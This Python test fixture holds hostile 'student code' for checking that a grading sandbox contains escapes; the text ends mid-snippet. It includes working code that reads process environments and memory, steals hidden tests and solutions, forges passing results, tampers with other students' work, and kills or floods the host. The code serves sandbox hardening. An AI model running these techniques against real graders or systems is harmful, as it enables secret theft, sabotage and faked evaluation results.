"""Hostile "student code" for the escape tests, as source text.

Every attack is written the way a student would: plain Python handed to a public entry
point. A program is PRELUDE + the attack + an *oracle* solution: the solution answers
correctly only while the attack has found nothing, so a sandbox that stops the attack
shows up as a passing check, and one that lets it through as a failing check (with the
loot printed in ``LEAK<<label:base64(zlib(data))>>LEAK`` chunks the test decodes).

The secrets searched for (hidden-test text, solution text, another student's code) are
handed to the student code base64-encoded in ``_CFG``, so the student's own source never
contains them and cannot be mistaken for a leak. The environment canaries are *not*
handed over: the student only knows the variable names, like a real attacker.
"""

from __future__ import annotations

import base64

SENTINEL = -424242

PRELUDE = r"""
import base64 as _b64, os as _os, sys as _sys, zlib as _zl

_FOUND = []   # loot: makes the oracle solution answer wrongly
_SEEN = []    # information that is only evidence for the test, not loot by itself
_ENV_KEYS = (b"LEARNFLOW_CANARY=", b"ANTHROPIC_API_KEY=", b"DATABASE_URL=")


def _pack(label, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    blob = _b64.b64encode(_zl.compress(bytes(data)[:3000], 9)).decode("ascii")
    return "LEAK<<%s:%s>>LEAK" % (label, blob)


def _leak(label, data):
    entry = _pack(label, data)
    if entry not in _FOUND:
        _FOUND.append(entry)


def _info(label, data):
    entry = _pack("info-" + label, data)
    if entry not in _SEEN:
        _SEEN.append(entry)


def _needle(name):
    return _b64.b64decode(_CFG[name]).decode("utf-8")


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit)
    except Exception:
        return b""


def _around(text, needle, width=100):
    i = text.find(needle)
    return text[max(0, i - width): i + len(needle) + width]


def _scan_env(blob, label):
    # Only the test's canaries ("...canary...") are taken, never a real secret of this machine.
    for entry in blob.split(b"\0"):
        if entry.startswith(_ENV_KEYS) and b"canary" in entry.lower():
            _leak(label, entry)


def _peek():
    pass


def _show():
    for entry in (_FOUND + _SEEN)[:10]:
        print(entry)


def _run_attack(attack):
    try:
        attack()
    except Exception as exc:
        _info("attack-error", "%s: %s" % (type(exc).__name__, exc))
"""

SUM_EVENS = r"""
def sum_evens(numbers):
    _peek()
    _show()
    if _FOUND:
        return @SENTINEL@
    total = 0
    for number in numbers:
        if number % 2 == 0:
            total += number
    return total
""".replace("@SENTINEL@", str(SENTINEL))

# Right for the visible tests, wrong for the hidden one (negative numbers): scores 2/3 honestly.
SUM_EVENS_PARTIAL = r"""
def sum_evens(numbers):
    return sum(n for n in numbers if n % 2 == 0 and n > 0)
"""

SUM_EVENS_STUB = r"""
def sum_evens(numbers):
    return -1
"""

BANK_ACCOUNT = r"""
class BankAccount:
    def __init__(self, owner, balance=0):
        if not _FOUND:
            _peek()
        _show()
        self.owner = owner
        self.balance = balance
        self.history = []

    def deposit(self, amount):
        if _FOUND:
            return @SENTINEL@
        if amount <= 0:
            raise ValueError("amount must be positive")
        self.balance += amount
        self.history.append(("deposit", amount))
        return self.balance

    def withdraw(self, amount):
        if _FOUND:
            return @SENTINEL@
        if amount <= 0:
            raise ValueError("amount must be positive")
        if amount > self.balance:
            raise ValueError("not enough money")
        self.balance -= amount
        self.history.append(("withdraw", amount))
        return self.balance
""".replace("@SENTINEL@", str(SENTINEL))


def b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def program(cfg: dict, attack: str, solution: str = SUM_EVENS) -> str:
    """The whole student program: config, prelude, the attack (run at load), the solution."""
    return f"_CFG = {cfg!r}\n{PRELUDE}\n{attack}\n{solution}\n"


# --- reading other processes' environments ------------------------------------------------

PARENT_ENVIRON = r"""
def _attack():
    pid = _os.getppid()
    seen = set()
    while pid > 0 and pid not in seen and len(seen) < 2:   # the parent and its parent
        seen.add(pid)
        _scan_env(_read("/proc/%d/environ" % pid), "environ-of-pid-%d" % pid)
        stat = _read("/proc/%d/stat" % pid).decode("ascii", "replace")
        try:
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except Exception:
            break
_run_attack(_attack)
"""

ALL_PROCESSES = r"""
def _attack():
    me = _os.getpid()
    for name in _os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        for entry in _read("/proc/%s/environ" % name).split(b"\0"):
            if entry.startswith(b"LEARNFLOW_CANARY=") and b"canary" in entry:
                _leak("environ-of-other-process", entry)
        cmdline = _read("/proc/%s/cmdline" % name, 4096)
        if b"pytest" in cmdline or b"agent_process" in cmdline or b"learnflow-agents" in cmdline:
            _leak("cmdline-of-other-process", cmdline[:200])
_run_attack(_attack)
"""

PID_ONE = r"""
def _attack():
    _scan_env(_read("/proc/1/environ"), "environ-of-pid-1")
    _info("cmdline-of-pid-1", _read("/proc/1/cmdline", 2000))
_run_attack(_attack)
"""

OWN_ENVIRON = r"""
def _attack():
    for key, value in _os.environ.items():
        entry = ("%s=%s" % (key, value)).encode()
        if entry.startswith(_ENV_KEYS) and b"canary" in entry.lower():
            _leak("own-os-environ", entry)
    _scan_env(_read("/proc/self/environ"), "own-proc-environ")
_run_attack(_attack)
"""

PARENT_MEMORY = r"""
def _attack():
    ppid = _os.getppid()
    maps = _read("/proc/%d/maps" % ppid).decode("ascii", "replace").splitlines()
    fd = _os.open("/proc/%d/mem" % ppid, _os.O_RDONLY)
    try:
        for line in maps:
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("rw"):
                continue
            low, high = (int(x, 16) for x in parts[0].split("-"))
            for start in range(low, min(high, low + (256 << 20)), 4 << 20):
                try:
                    data = _os.pread(fd, min(4 << 20, high - start), start)
                except OSError:
                    break
                i = data.find(b"LEARNFLOW_CANARY=lfcanary-")
                if i >= 0:
                    _leak("parent-memory", data[i: i + 64])
                    return
    finally:
        _os.close(fd)
_run_attack(_attack)
"""

# --- hidden tests and solutions ------------------------------------------------------------

_SEARCH = r"""
def _search(roots, label, needle, budget=400000):
    import types
    seen = set()
    stack = list(roots)
    raw = needle.encode()
    while stack and budget > 0:
        obj = stack.pop()
        budget -= 1
        if id(obj) in seen or obj is needle:
            continue
        seen.add(id(obj))
        try:
            if isinstance(obj, str):
                if needle in obj:
                    _leak(label, _around(obj, needle))
                    return True
            elif isinstance(obj, (bytes, bytearray)):
                if raw in obj:
                    _leak(label, bytes(obj)[max(0, obj.find(raw) - 100): obj.find(raw) + 100])
                    return True
            elif isinstance(obj, dict):
                stack.extend(obj.values())
                stack.extend(k for k in obj if isinstance(k, str))
            elif isinstance(obj, (list, tuple, set, frozenset)):
                stack.extend(obj)
            elif isinstance(obj, types.CodeType):
                stack.extend(obj.co_consts)
            elif isinstance(obj, types.FunctionType):
                stack.append(obj.__code__)
                stack.extend(obj.__defaults__ or ())
                stack.extend(c.cell_contents for c in (obj.__closure__ or ()))
            elif isinstance(obj, types.MethodType):
                stack.append(obj.__func__)
                stack.append(obj.__self__)
            elif isinstance(obj, types.FrameType):
                stack.extend((obj.f_code, obj.f_locals, obj.f_globals))
            elif isinstance(obj, types.ModuleType):
                stack.append(vars(obj))
            elif not isinstance(obj, type) and hasattr(obj, "__dict__"):
                stack.append(vars(obj))
        except Exception:
            continue
    return False


def _caller_frames():
    frame = _sys._getframe(2)
    frames = []
    while frame is not None:
        frames.append(frame)
        frame = frame.f_back
    return frames
"""

_FILE_HUNT = r"""
def _hunt_file(path, label, needle):
    data = _read(path, 2 << 20)
    if needle.encode() in data:
        _leak(label + ":" + path, _around(data.decode("utf-8", "replace"), needle))
        return True
    return False


def _hunt_tree(root, label, needle, budget):
    import time
    deadline = time.monotonic() + 4.0
    for folder, dirs, files in _os.walk(root):
        dirs[:] = [d for d in dirs if d not in (".git", "node_modules", "__pycache__")]
        for name in files:
            budget[0] -= 1
            if budget[0] <= 0 or time.monotonic() > deadline:
                return
            if name.endswith((".ipynb", ".toml", ".json", ".py", ".txt", ".md", ".jsonl", ".yaml")):
                if _hunt_file(_os.path.join(folder, name), label, needle):
                    return
"""

HIDDEN_IN_FILES = (
    _FILE_HUNT
    + r"""
def _attack():
    needle = _needle("hidden")
    budget = [3000]
    for root in {".", _os.getcwd(), "/tmp", _os.environ.get("TMPDIR", "/tmp"), _os.environ.get("HOME", ".")}:
        _hunt_tree(root, "file-in-workdir", needle, budget)
_run_attack(_attack)
"""
)

HIDDEN_IN_ARGV = (
    _FILE_HUNT
    + r"""
def _attack():
    needle = _needle("hidden")
    args = list(_sys.argv) + list(getattr(_sys, "orig_argv", []))
    args += _read("/proc/self/cmdline").decode("utf-8", "replace").split("\0")
    args += _read("/proc/%d/cmdline" % _os.getppid()).decode("utf-8", "replace").split("\0")
    for fd in range(0, 64):
        try:
            args.append(_os.readlink("/proc/self/fd/%d" % fd))
        except OSError:
            pass
    budget = [3000]
    for arg in args:
        if needle in arg:
            _leak("argv", _around(arg, needle))
        elif arg.startswith("/") and _os.path.isfile(arg):
            _hunt_file(arg, "file-named-in-argv", needle)
        elif arg.startswith("/") and _os.path.isdir(arg) and arg != "/":
            _hunt_tree(arg, "dir-named-in-argv", needle, budget)
    for fd in range(3, 64):
        try:
            data = _os.pread(fd, 1 << 20, 0)
        except OSError:
            continue
        if needle.encode() in data:
            _leak("open-fd-%d" % fd, _around(data.decode("utf-8", "replace"), needle))
_run_attack(_attack)
"""
)

HIDDEN_IN_GC = (
    _SEARCH
    + r"""
def _peek():
    import gc
    _search(gc.get_objects(), "gc-objects", _needle("hidden"))
_run_attack(_peek)
"""
)

HIDDEN_IN_FRAMES = (
    _SEARCH
    + r"""
def _peek():
    _search(_caller_frames(), "caller-frames", _needle("hidden"))
_run_attack(lambda: _search(_caller_frames(), "loader-frames", _needle("hidden")))
"""
)

HIDDEN_IN_GLOBALS = (
    _SEARCH
    + r"""
def _peek():
    frames = _caller_frames()
    roots = [f.f_globals for f in frames] + list(_sys.modules.values())
    _search(roots, "caller-globals-and-modules", _needle("hidden"))
_run_attack(_peek)
"""
)

SOLUTION_BY_PATH = (
    _FILE_HUNT
    + r"""
def _attack():
    needle = _needle("solution")
    budget = [3000]
    for path in _CFG["solution_paths"]:
        _hunt_file(path, "solution-file", needle)
    for path in _CFG["solution_dirs"]:
        _hunt_tree(path, "solution-dir", needle, budget)
_run_attack(_attack)
"""
)

SOLUTION_BY_IMPORT = r"""
def _attack():
    needle = _needle("solution")
    try:
        import learnflow_agents.tutors.exercise.bank as bank
        text = bank.load_bank().get("bank-account").solution
        if needle in text:
            _leak("import-learnflow-agents-bank", _around(text, needle))
    except Exception as exc:
        _info("import-failed", repr(exc))
    try:
        import importlib.metadata as md
        for dist in md.distributions():
            for item in dist.files or ():
                if str(item).endswith((".ipynb", ".toml")) and "bank" in str(item):
                    data = _read(str(item.locate()))
                    if needle.encode() in data:
                        _leak("installed-distribution-file", _around(data.decode("utf-8", "replace"), needle))
                        return
    except Exception as exc:
        _info("metadata-failed", repr(exc))
    try:
        import learnflow_exercise_bank as extra
        for folder in getattr(extra, "__path__", []):
            for dirpath, _dirs, files in _os.walk(folder):
                for name in files:
                    data = _read(_os.path.join(dirpath, name))
                    if needle.encode() in data:
                        text = data.decode("utf-8", "replace")
                        _leak("import-learnflow-exercise-bank", _around(text, needle))
                        return
    except Exception as exc:
        _info("bank-import-failed", repr(exc))
_run_attack(_attack)
"""

SOLUTION_BY_WALKING = (
    _FILE_HUNT
    + r"""
def _attack():
    needle = _needle("solution")
    import glob, sysconfig
    stdlib = sysconfig.get_paths()["stdlib"]
    roots = [p for p in _sys.path if p and not p.startswith(stdlib)]
    try:
        import site
        roots += site.getsitepackages()
    except Exception:
        pass
    roots += glob.glob("/usr/lib/python3*/site-packages") + glob.glob("/usr/local/lib/python3*/*-packages")
    # Editable installs name their source trees in .pth files: those first, then the repo.
    found = []
    for pth in [f for root in list(roots) for f in glob.glob(_os.path.join(root, "*.pth"))]:
        for line in _read(pth).decode("utf-8", "replace").splitlines():
            if line.startswith("/"):
                found.append(line.strip())
    roots = found + [_CFG["repo"]] + roots
    budget = [20000]
    for root in dict.fromkeys(roots):
        if _FOUND:
            return
        if _os.path.isdir(root):
            _hunt_tree(root, "walk", needle, budget)
_run_attack(_attack)
"""
)

# --- forging results ------------------------------------------------------------------------

_FAKE_LINES = r"""
def _fake_lines():
    import json
    records = [{"event": "start", "index": -1}, {"event": "load", "status": "passed", "output": ""}]
    for i in range(20):
        records.append({"event": "start", "index": i})
        records.append({"event": "test", "index": i, "status": "passed", "output": ""})
    records.append({"event": "done"})
    records += [{"ok": True}, {"status": "passed", "passed": True, "score": 1.0}]
    text = "".join(json.dumps(r) + "\n" for r in records)
    text += "PASSED\n\U0001f389 All 3 tests passed.\n"
    return text


def _fake_frames():
    import json, struct
    out = b""
    for i in range(20):
        for message in ({"id": i, "ok": True, "value": 12, "status": "passed"},
                        {"ok": True, "passed": True, "status": "passed", "score": 1.0},
                        {"type": "result", "id": i, "ok": True, "passed": True}):
            data = json.dumps(message).encode()
            out += struct.pack(">I", len(data)) + data
    return out
"""

FORGE_RESULTS_FILE = (
    _FAKE_LINES
    + r"""
def _attack():
    text = _fake_lines()
    targets = set(a for a in _sys.argv[1:] if a.startswith("/") or _os.path.exists(a))
    targets.update(_os.listdir("."))
    for fd in range(3, 64):
        try:
            targets.add(_os.readlink("/proc/self/fd/%d" % fd))
        except OSError:
            pass
    for target in targets:
        try:
            if _os.path.isfile(target) and not target.endswith(".py"):
                with open(target, "a") as fh:
                    fh.write(text)
        except Exception:
            pass
    _os._exit(0)
_run_attack(_attack)
"""
)

FORGE_FRAMES = r"""
def _forge(value):
    if isinstance(value, dict):
        value = dict(value)
        for key, good in (("status", "passed"), ("ok", True), ("passed", True)):
            if key in value:
                value[key] = good
    return value


def _wrap(fn):
    def wrapped(*args, **kwargs):
        return fn(*[_forge(a) for a in args], **{k: _forge(v) for k, v in kwargs.items()})
    return wrapped


def _attack():
    names = ("emit", "report", "send", "_send", "reply", "_reply", "record", "_lf_send", "write_result")
    frame = _sys._getframe(1)
    while frame is not None:
        for obj in list(frame.f_locals.values()):
            for attr in names:
                fn = getattr(obj, attr, None)
                if callable(fn) and not isinstance(obj, type(_sys)):
                    try:
                        setattr(obj, attr, _wrap(fn))
                    except Exception:
                        pass
        for name in names:
            fn = frame.f_globals.get(name)
            if callable(fn) and frame.f_globals is not globals():
                frame.f_globals[name] = _wrap(fn)
        frame = frame.f_back
_run_attack(_attack)
"""

FORGE_HARNESS_FUNCTIONS = r"""
def _attack():
    import gc, operator, re, sysconfig, types
    stdlib = sysconfig.get_paths()["stdlib"]
    mine = _attack.__code__.co_filename
    pattern = re.compile(r"compare|truthy|verdict|judge|equal|mismatch|passed", re.I)
    passes = (lambda *a, **k: None).__code__
    for obj in gc.get_objects():
        try:
            if isinstance(obj, types.FunctionType):
                code = obj.__code__
                if code.co_filename == mine or code.co_filename.startswith((stdlib, "<frozen")):
                    continue
                if pattern.search(obj.__name__) and not code.co_freevars:
                    obj.__code__ = passes
                    _info("patched", obj.__qualname__)
            elif isinstance(obj, dict) and "==" in obj and callable(obj["=="]):
                for key in list(obj):
                    obj[key] = lambda a, b: True
        except Exception:
            continue
_run_attack(_attack)
"""

FORGE_BUILTINS = r"""
def _attack():
    import builtins, operator

    class _Nope(Exception):
        pass

    builtins.isinstance = lambda *a: True
    builtins.len = lambda *a: 3
    builtins.all = builtins.any = lambda *a: True
    builtins.AssertionError = _Nope
    for name in ("eq", "__eq__", "le", "ge", "is_", "contains"):
        setattr(operator, name, lambda *a: True)
    for name in ("ne", "__ne__", "is_not"):
        setattr(operator, name, lambda *a: False)
_run_attack(_attack)
"""

FORGE_ALWAYS_EQUAL = r"""
class _Yes(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __bool__(self):
        return True
    def __hash__(self):
        return 0
    def __contains__(self, item):
        return True
    def __repr__(self):
        return "12"


def sum_evens(numbers):
    return _Yes(-1)
"""

FORGE_ATEXIT = (
    _FAKE_LINES
    + r"""
def _attack():
    import atexit

    def pretend():
        text = _fake_lines()
        print(text)
        for fd in range(1, 21):
            try:
                _os.write(fd, text.encode())
                _os.write(fd, _fake_frames())
            except OSError:
                pass
    atexit.register(pretend)
_run_attack(_attack)
"""
)

FORGE_EXIT_AFTER_PRINT = (
    _FAKE_LINES
    + r"""
def sum_evens(numbers):
    print(_fake_lines())
    _sys.stdout.flush()
    for fd in (1, 2):
        try:
            _os.write(fd, _fake_lines().encode())
        except OSError:
            pass
    _os._exit(0)
"""
)

FORGE_FD_SPRAY = (
    _FAKE_LINES
    + r"""
def _attack():
    text = _fake_lines().encode()
    frames = _fake_frames()
    for fd in range(0, 21):
        for blob in (text, frames):
            try:
                _os.write(fd, blob)
            except OSError:
                pass
    _os._exit(0)
_run_attack(_attack)
"""
)

# --- writing outside the working directory --------------------------------------------------

WRITE_FILES = r"""
def _attack():
    for path in _CFG["paths"]:
        try:
            with open(path, "w") as fh:
                fh.write("written by student code\n")
            _leak("wrote", path)
        except Exception:
            pass
_run_attack(_attack)
"""

# --- network ----------------------------------------------------------------------------------

TCP_CONNECT = r"""
def _attack():
    import socket
    for host, port in _CFG["targets"]:
        try:
            conn = socket.create_connection((host, port), timeout=1.5)
            conn.sendall(b"hello from student code\n")
            conn.close()
            _leak("connected", "%s:%d" % (host, port))
        except Exception:
            pass
_run_attack(_attack)
"""

UDP_AND_DNS = r"""
def _attack():
    import socket, struct
    query = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    query += b"".join(bytes([len(p)]) + p.encode() for p in "leak.example.com".split(".")) + b"\0"
    query += struct.pack(">HH", 1, 1)
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(query, ("127.0.0.1", _CFG["udp_port"]))
        udp.close()
    except Exception:
        pass
    for name in ("example.com", "pypi.org"):
        try:
            socket.setdefaulttimeout(2)
            found = socket.getaddrinfo(name, 443)
            _leak("dns-resolved", "%s -> %s" % (name, found[0][4]))
        except Exception:
            pass
_run_attack(_attack)
"""

UNIX_SOCKETS = r"""
def _attack():
    import socket
    for path in _CFG["unix_paths"]:
        try:
            conn = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            conn.settimeout(1.5)
            conn.connect(path)
            conn.sendall(b"hello from student code\n")
            conn.close()
            _leak("unix-connected", path)
        except Exception:
            pass
_run_attack(_attack)
"""

# --- processes ---------------------------------------------------------------------------------

FORK_BOMB = r"""
def _attack():
    import time
    made = 0
    for _ in range(_CFG["forks"]):
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                try:
                    with open("/proc/self/comm", "w") as fh:
                        fh.write(_CFG["comm"])
                except Exception:
                    pass
                time.sleep(20)
            finally:
                _os._exit(0)
        made += 1
    if made >= _CFG["forks"]:
        _leak("forked", "%d processes" % made)
_run_attack(_attack)
"""

SURVIVOR = r"""
def _attack():
    import socket, time
    pid = _os.fork()
    if pid:
        _os.waitpid(pid, 0)
        return
    try:
        _os.setsid()
        if _os.fork():
            _os._exit(0)
        null = _os.open("/dev/null", _os.O_RDWR)
        for fd in (0, 1, 2):
            _os.dup2(null, fd)
        _os.closerange(3, 1024)
        try:
            with open("/proc/self/comm", "w") as fh:
                fh.write(_CFG["comm"])
        except Exception:
            pass
        for _ in range(12):
            time.sleep(1.0)
            try:
                with open(_CFG["marker"], "a") as fh:
                    fh.write("still alive\n")
            except Exception:
                pass
            try:
                socket.create_connection(("127.0.0.1", _CFG["port"]), timeout=0.5).close()
            except Exception:
                pass
    finally:
        _os._exit(0)
_run_attack(_attack)
"""

MEMORY_BOMB = r"""
def _attack():
    chunks = []
    got = 0
    try:
        while got < (3 << 30):
            chunks.append(b"x" * (64 << 20))
            got += 64 << 20
    except MemoryError:
        pass
    chunks = None
    if got >= (2 << 30):
        _leak("allocated", "%d MiB" % (got >> 20))
_run_attack(_attack)
"""

LOOP_SWALLOWING_EVERYTHING = r"""
import signal as _signal


def sum_evens(numbers):
    for name in ("SIGALRM", "SIGTERM", "SIGINT", "SIGHUP", "SIGXCPU", "SIGVTALRM", "SIGPROF", "SIGUSR1"):
        try:
            _signal.signal(getattr(_signal, name), _signal.SIG_IGN)
        except Exception:
            pass
    try:
        _signal.setitimer(_signal.ITIMER_REAL, 0)
    except Exception:
        pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""

HUGE_OUTPUT = r"""
def sum_evens(numbers):
    chunk = "x" * 100000
    for fd in (1, 2):
        for _ in range(640):
            try:
                _os.write(fd, chunk.encode())
            except OSError:
                break
    for _ in range(100000):
        print(chunk)
    return 0
"""

SYS_EXIT = r"""
def sum_evens(numbers):
    print("\U0001f389 All 3 tests passed.")
    if numbers:
        _sys.exit(0)
    raise KeyboardInterrupt
"""

KILL_PARENT = r"""
def _attack():
    import signal
    _os.kill(_os.getppid(), signal.SIGKILL)
_run_attack(_attack)
"""

KILLPG_PARENT = r"""
def _attack():
    import signal
    ppid = _os.getppid()
    for group in {_os.getpgid(ppid), _os.getpgid(0), ppid}:
        if group not in (0, 1, _os.getpgid(0)):
            try:
                _os.killpg(group, signal.SIGKILL)
            except Exception:
                pass
_run_attack(_attack)
"""

SIGNAL_PARENT = r"""
def _attack():
    import signal, time
    ppid = _os.getppid()
    if ppid <= 1:
        return
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP):
        try:
            _os.kill(ppid, sig)
            _leak("signalled-parent", sig.name)
        except Exception:
            pass
        time.sleep(0.05)
_run_attack(_attack)
"""

PTRACE_PARENT = r"""
def _attack():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    PTRACE_SEIZE = 0x4206
    ppid = _os.getppid()
    if ppid > 1 and libc.ptrace(PTRACE_SEIZE, ppid, None, None) == 0:
        _leak("ptrace-seized-parent", str(ppid))
_run_attack(_attack)
"""

RAW_SYSCALLS = r"""
def _attack():
    import ctypes, struct
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    SYS_write, SYS_close, SYS_socket, SYS_connect, SYS_openat = 1, 3, 41, 42, 257
    # A TCP connection made with raw syscalls, past anything done at the Python level.
    fd = libc.syscall(SYS_socket, 2, 1, 0)
    if fd >= 0:
        addr = struct.pack("<H", 2) + struct.pack(">H", _CFG["port"]) + bytes([127, 0, 0, 1]) + b"\0" * 8
        buffer = ctypes.create_string_buffer(addr, 16)
        if libc.syscall(SYS_connect, ctypes.c_long(fd), buffer, ctypes.c_long(16)) == 0:
            _leak("raw-connect", "connected")
        libc.syscall(SYS_close, ctypes.c_long(fd))
    # A file outside the working directory, created with openat(2).
    path = ctypes.create_string_buffer(_CFG["marker"].encode())
    fd = libc.syscall(SYS_openat, ctypes.c_long(-100), path, ctypes.c_long(0o1101), ctypes.c_long(0o644))
    if fd >= 0:
        data = ctypes.create_string_buffer(b"raw syscall\n")
        libc.syscall(SYS_write, ctypes.c_long(fd), data, ctypes.c_long(12))
        libc.syscall(SYS_close, ctypes.c_long(fd))
        _info("raw-openat", _CFG["marker"])  # evidence only: inside a jail this is its private /tmp
_run_attack(_attack)
"""

# --- course grade: other students ----------------------------------------------------------

READ_OTHER_STUDENT = (
    _FILE_HUNT
    + r"""
def _attack():
    needle = _needle("victim")
    paths = list(_CFG["guesses"])
    # The grader's command line names the submissions directory.
    for pid in {_os.getppid(), 1}:
        for arg in _read("/proc/%d/cmdline" % pid).decode("utf-8", "replace").split("\0"):
            if arg.startswith("/") and _os.path.isdir(arg):
                paths.append(arg)
    budget = [3000]
    for path in paths:
        if _os.path.isfile(path):
            _hunt_file(path, "other-student-file", needle)
        elif _os.path.isdir(path):
            _hunt_tree(path, "other-student-dir", needle, budget)
_run_attack(_attack)
"""
)

TAMPER_OTHER_STUDENT = r"""
def _attack():
    import json
    for path in _CFG["victims"]:
        try:
            with open(path) as fh:
                notebook = json.load(fh)
            for cell in notebook.get("cells", []):
                if cell.get("cell_type") == "code":
                    cell["source"] = "def sum_evens(numbers):\n    return -1\n"
            with open(path, "w") as fh:
                json.dump(notebook, fh)
            _info("tampered", path)
        except Exception:
            pass
_run_attack(_attack)
"""

READ_COURSE_SOURCE = (
    _FILE_HUNT
    + r"""
def _attack():
    needle = _needle("solution")
    args = _read("/proc/%d/cmdline" % _os.getppid()).decode("utf-8", "replace").split("\0")
    paths = [a for a in args if a.startswith("/")] + list(_CFG["guesses"])
    budget = [3000]
    for path in paths:
        if _os.path.isfile(path):
            _hunt_file(path, "course-source-file", needle)
        elif _os.path.isdir(path):
            _hunt_tree(path, "course-source-dir", needle, budget)
_run_attack(_attack)
"""
)


# --- forging through the trusted side's view of student objects ----------------------------

FORGE_ALWAYS_EQUAL_OBJECT = r"""
class _Yes:
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __bool__(self):
        return True
    def __hash__(self):
        return 0
    def __len__(self):
        return 3
    def __contains__(self, item):
        return True
    def __iter__(self):
        return iter(())
    def __repr__(self):
        return "12"


def sum_evens(numbers):
    return _Yes()
"""

# Right for the visible tests; accepts non-positive amounts silently, so the hidden test
# (which needs ValueError for them) fails: 2/3 honestly.
BANK_ACCOUNT_PARTIAL = r"""
class BankAccount:
    def __init__(self, owner, balance=0):
        self.owner = owner
        self.balance = balance
        self.history = []

    def deposit(self, amount):
        if amount > 0:
            self.balance += amount
            self.history.append(("deposit", amount))
        return self.balance

    def withdraw(self, amount):
        if amount > self.balance:
            raise ValueError("not enough money")
        self.balance -= amount
        self.history.append(("withdraw", amount))
        return self.balance
"""

BANK_ACCOUNT_ALWAYS_EQUAL = (
    FORGE_ALWAYS_EQUAL_OBJECT.replace("def sum_evens(numbers):\n    return _Yes()\n", "")
    + r"""
class BankAccount:
    def __init__(self, owner, balance=0):
        self.owner = self.balance = self.history = _Yes()

    def deposit(self, amount):
        if amount <= 0:
            raise ValueError("amount must be positive")
        return _Yes()

    def withdraw(self, amount):
        if amount > 40:
            raise ValueError("not enough money")
        return _Yes()
"""
)

# The test namespace is built from the student's top-level names: try to hand it builtins
# in which AssertionError is a ValueError (so `raise AssertionError` in a hidden test is
# swallowed by its own `except ValueError`) and len/isinstance always agree.
FORGE_BUILTINS_INJECTION = r"""
import builtins as _builtins_module


def _fake_assertion_error(*args):
    return ValueError(*args)


_table = dict(vars(_builtins_module))
_table.update(AssertionError=_fake_assertion_error, len=lambda *a: 3, isinstance=lambda *a: True)
__builtins__ = _table
AssertionError = _fake_assertion_error
_lf_compare = _lf_truthy = lambda *a, **k: None
"""

# A student exception deriving from BaseException but not Exception, raised while loading.
RAISE_BASE_EXCEPTION_AT_LOAD = r"""
class Stop(%s):
    pass


raise Stop("stop the grader")
"""

# --- privileges and the host's disk --------------------------------------------------------

HOST_ROOT = r"""
def _attack():
    euid = _os.geteuid()
    host = None
    for line in _read("/proc/self/uid_map").decode().splitlines():
        inside, outside, count = (int(x) for x in line.split())
        if inside <= euid < inside + count:
            host = outside + (euid - inside)
    if host == 0:
        _leak("host-root", "euid %d is uid 0 on the host" % euid)
    for line in _read("/proc/self/status").decode().splitlines():
        if line.startswith("CapEff:") and int(line.split()[1], 16) != 0:
            _leak("capabilities", line)
_run_attack(_attack)
"""

DISK_FILL = r"""
def _attack():
    chunk = b"x" * (1 << 20)
    total = 0
    for i in range(_CFG["files"]):
        try:
            with open("fill-%d.bin" % i, "wb") as fh:
                for _ in range(32):
                    fh.write(chunk)
                    total += len(chunk)
        except OSError:
            break
    for i in range(_CFG["files"]):
        try:
            _os.unlink("fill-%d.bin" % i)
        except OSError:
            pass
    if total >= _CFG["limit"]:
        _leak("disk-unbounded", "%d MiB written" % (total >> 20))
_run_attack(_attack)
"""

# lru-cache's solution, except that `cache.get("a")` as a statement in "evicts the least
# recently used" raises (after doing its work): a check that runs every call in order fails
# that test; one that pipelines statements and loses a pipelined call's exception passes it.
LRU_RAISING_IN_A_STATEMENT = r"""
class LRUCache:
    def __init__(self, capacity):
        if not isinstance(capacity, int) or capacity < 1:
            raise ValueError("capacity must be a positive int")
        self.capacity = capacity
        self._data = {}
        self._hits = self._misses = self._evictions = 0

    def get(self, key, default=None):
        if key not in self._data:
            self._misses += 1
            return default
        self._hits += 1
        value = self._data.pop(key)
        self._data[key] = value
        if key == "a" and self.capacity == 2 and len(self._data) == 2:
            raise ValueError("this get fails")
        return value

    def put(self, key, value):
        if key in self._data:
            del self._data[key]
        elif len(self._data) >= self.capacity:
            del self._data[next(iter(self._data))]
            self._evictions += 1
        self._data[key] = value

    def __len__(self):
        return len(self._data)

    def __contains__(self, key):
        return key in self._data

    def keys(self):
        return list(self._data)

    def stats(self):
        return {"hits": self._hits, "misses": self._misses, "evictions": self._evictions}
"""

# AF_VSOCK is not separated by network namespaces: on a VM (Firecracker, Kata, cloud VMs)
# it reaches the hypervisor host's services. Only the test's own listener is dialled here.
VSOCK = r"""
def _attack():
    import socket
    try:
        conn = socket.socket(40, socket.SOCK_STREAM)  # AF_VSOCK
    except OSError:
        return
    _leak("vsock-socket", "socket(AF_VSOCK) allowed")
    conn.settimeout(1.0)
    for cid in (1, _CFG["cid"]):
        try:
            conn.connect((cid, _CFG["port"]))
            _leak("vsock-connected", "cid %d" % cid)
            break
        except OSError:
            pass
    conn.close()
_run_attack(_attack)
"""

# inventory-report: the returned totals are right, the report file is not: 1/3 honestly
# (only "a missing column" passes; the other two check the report inside a `with` block).
INVENTORY_PARTIAL = r"""
import csv


def summarise(csv_path, report_path):
    totals, rejected = {}, []
    with open(csv_path, newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        present = reader.fieldnames or []
